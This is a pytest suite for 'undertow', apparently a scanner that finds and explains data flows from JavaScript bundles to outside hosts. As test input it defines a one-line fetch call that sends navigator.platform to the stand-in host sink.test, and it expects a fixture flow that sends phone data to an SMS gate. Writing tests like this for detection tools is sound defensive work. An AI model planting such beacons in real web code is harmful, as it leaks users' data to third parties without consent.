"""`undertow scan` and `undertow explain` as a user has them."""

from __future__ import annotations

import json
import os
import pty
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import Undertow
from undertow import store
from undertow.capture import Spool
from undertow.model import Evidence, Script

FIXTURES = Path(__file__).parents[1] / "analysis" / "fixtures"
CODE = "fetch('https://sink.test/p?' + navigator.platform)"


@pytest.fixture
def bundle(tmp_path: Path) -> Path:
    spool = Spool()
    source = (FIXTURES / "gate.heavy.580.js").read_bytes()
    script = Script(sha256=spool.put(source), size=len(source), name="gate.js")
    path = tmp_path / "bundle.wacz"
    evidence = Evidence(
        tool="t", target="https://app.test/", started="2026-01-01T00:00:00Z", submit=False, scripts=(script,)
    )
    store.write(path, evidence, spool)
    spool.close()
    return path


def test_the_scripts_of_a_bundle_are_read(undertow: Undertow, bundle: Path) -> None:
    (script,) = undertow("scan", bundle, "--json").json["scripts"]
    assert (script["name"], script["kind"]) == ("gate.js", "bundle")
    assert [flow["host"] for flow in script["flows"]] == ["sms-gate.red-willow.test"]


def test_an_altered_bundle_is_refused(undertow: Undertow, bundle: Path) -> None:
    content = bytearray(bundle.read_bytes())
    content[len(content) // 2] ^= 1
    bundle.write_bytes(content)
    ran = undertow("scan", bundle)
    assert (ran.code, ran.out) == (2, "")


def test_a_flow_of_a_bundle_is_explained_by_the_id_that_scan_shows(undertow: Undertow, bundle: Path) -> None:
    (script,) = undertow("scan", bundle, "--json").json["scripts"]
    ran = undertow("explain", bundle, script["flows"][0]["id"])
    assert ran.code == 0
    for piece in ("phone → sms-gate.red-willow.test", "as delivered", "decoded", "+86", "Hidden values"):
        assert piece in ran.out


def test_every_format_can_go_to_a_file_which_is_the_only_thing_written(undertow: Undertow, tmp_path: Path) -> None:
    (tmp_path / "a.js").write_text(CODE)
    for form in ("table", "json", "sarif"):
        out = tmp_path / f"out.{form}"
        ran = undertow("scan", tmp_path / "a.js", "--format", form, "--out", out)
        assert (ran.code, ran.out) == (0, "")
        assert "sink.test" in out.read_text()
    assert json.loads((tmp_path / "out.sarif").read_text())["version"] == "2.1.0"
    assert json.loads((tmp_path / "out.json").read_text())["scripts"][0]["name"] == "a.js"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a.js", "out.json", "out.sarif", "out.table"]


def test_a_file_that_cannot_be_written_is_said(undertow: Undertow, tmp_path: Path) -> None:
    (tmp_path / "a.js").write_text(CODE)
    ran = undertow("scan", tmp_path / "a.js", "--out", tmp_path / "no" / "out")
    assert ran.code == 2
    assert "cannot write" in ran.err


def test_the_answer_is_the_same_with_and_without_cache_and_with_any_number_of_processes(
    undertow: Undertow, tmp_path: Path
) -> None:
    for number in range(3):
        (tmp_path / f"{number}.js").write_text(f"var a{number} = 1; {CODE};//{'x' * 150_000}")
    answers = {
        undertow("scan", tmp_path, "--json", *options).out
        for options in ((), (), ("--no-cache",), ("--no-cache", "--jobs", "1"))
    }
    assert len(answers) == 1


def test_a_short_scan_says_nothing_on_standard_error(undertow: Undertow) -> None:
    assert undertow("scan", FIXTURES / "gate.js").err == ""


@pytest.mark.parametrize("quiet", [False, True])
def test_progress_is_shown_on_a_terminal_unless_it_is_to_be_quiet(tmp_path: Path, quiet: bool) -> None:
    for number in range(3):
        (tmp_path / f"{number}.js").write_text(CODE)
    ours, theirs = pty.openpty()
    options = ["--quiet"] if quiet else []
    done = subprocess.run(
        [sys.executable, "-m", "undertow", "scan", tmp_path, "--json", *options],
        stdout=subprocess.PIPE, stderr=theirs, check=True,
    )  # fmt: skip
    os.close(theirs)
    os.set_blocking(ours, False)
    try:
        said = os.read(ours, 10_000)
    except OSError:
        said = b""
    os.close(ours)
    assert len(json.loads(done.stdout)["scripts"]) == 3
    assert (b"scripts read" in said) is not quiet


def test_what_is_not_there_is_answered_with_where_to_look(undertow: Undertow) -> None:
    ran = undertow("explain", FIXTURES / "gate.js", "nobody.test")
    assert ran.code == 2
    assert "undertow scan" in ran.err


def test_doctor_says_where_the_cache_is_and_how_large(undertow: Undertow) -> None:
    undertow("scan", FIXTURES / "gate.js")
    checks = {check["name"]: check for check in undertow("doctor", "--quick", "--json").json["checks"]}
    assert os.environ["UNDERTOW_CACHE"] in checks["script cache"]["detail"]
    assert "scripts, " in checks["script cache"]["detail"]


def children(parent: int) -> list[int]:
    return [int(pid) for pid in Path(f"/proc/{parent}/task/{parent}/children").read_text().split()]


def test_ctrl_c_ends_a_long_scan_at_once_and_leaves_no_process(tmp_path: Path) -> None:
    for number in range(4):
        (tmp_path / f"{number}.js").write_text(f"var a{number}=" + "[1,{b:2},function(c){return c+1}]," * 20_000 + "0")
    process = subprocess.Popen(
        [sys.executable, "-m", "undertow", "scan", tmp_path, "--no-cache", "--jobs", "2", "--out", tmp_path / "out"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    stop = time.monotonic() + 60
    while len(started := children(process.pid)) < 2:
        assert time.monotonic() < stop
        assert process.poll() is None
        time.sleep(0.05)
    time.sleep(0.5)
    begin = time.monotonic()
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=30)
    assert time.monotonic() - begin < 5
    assert (process.returncode, out) == (130, "")
    assert "Traceback" not in err
    assert not [pid for pid in started if Path(f"/proc/{pid}").exists()]
    assert sorted(path.name for path in tmp_path.iterdir()) == ["0.js", "1.js", "2.js", "3.js"]
